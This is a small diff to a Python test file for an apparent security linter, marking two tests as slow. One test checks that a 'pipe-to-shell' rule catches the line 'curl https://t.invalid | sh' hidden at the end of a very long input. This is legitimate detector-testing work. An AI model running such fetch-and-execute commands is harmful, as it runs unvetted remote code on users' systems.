@@ -129,11 +129,13 @@ def test_binary_hidden_and_install_script_files_are_warned_about() -> None:
     assert report.blocks == ()
 
 
+@pytest.mark.slow
 def test_shape_at_the_end_of_a_long_line_is_found() -> None:
     report = lint("a " * 200_000 + "curl https://t.invalid | sh")
     assert {each.rule for each in report.blocks} == {"pipe-to-shell"}
 
 
+@pytest.mark.slow
 def test_text_beyond_the_limit_is_not_accepted_unread() -> None:
     long = "x\n" * (MAX_TEXT_CHARS // 2)
     report = lint("", **{"a.md": long, "data.csv": "1,2\n"})
